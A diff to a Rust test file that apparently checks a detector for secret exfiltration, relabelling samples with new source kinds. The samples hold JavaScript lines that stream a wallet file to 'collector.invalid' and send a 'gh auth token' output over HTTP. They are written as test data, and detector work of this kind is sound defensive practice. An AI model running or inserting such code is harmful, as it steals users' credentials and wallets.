@@ -8,7 +8,7 @@ use super::installed;
 type Sample = (&'static str, SourceKind, SinkKind, &'static str);
 
 use SinkKind::{Dns, Http, NetworkCommand, Socket};
-use SourceKind::{CredentialFile, Environment, SecretVariable};
+use SourceKind::{CredentialFile, CredentialTool, Environment, SecretVariable, WalletOrProfile};
 
 const SAMPLES: &[Sample] = &[
     (
@@ -275,7 +275,7 @@ const SAMPLES: &[Sample] = &[
     ),
     (
         "streams a wallet into a request",
-        CredentialFile,
+        WalletOrProfile,
         Http,
         r"
         const fs = require('fs'); const req = require('https').request('https://collector.invalid');
@@ -425,7 +425,7 @@ const SAMPLES: &[Sample] = &[
     ),
     (
         "sends what a command printed",
-        CredentialFile,
+        CredentialTool,
         Http,
         r"
         const t = require('child_process').execSync('gh auth token').toString();
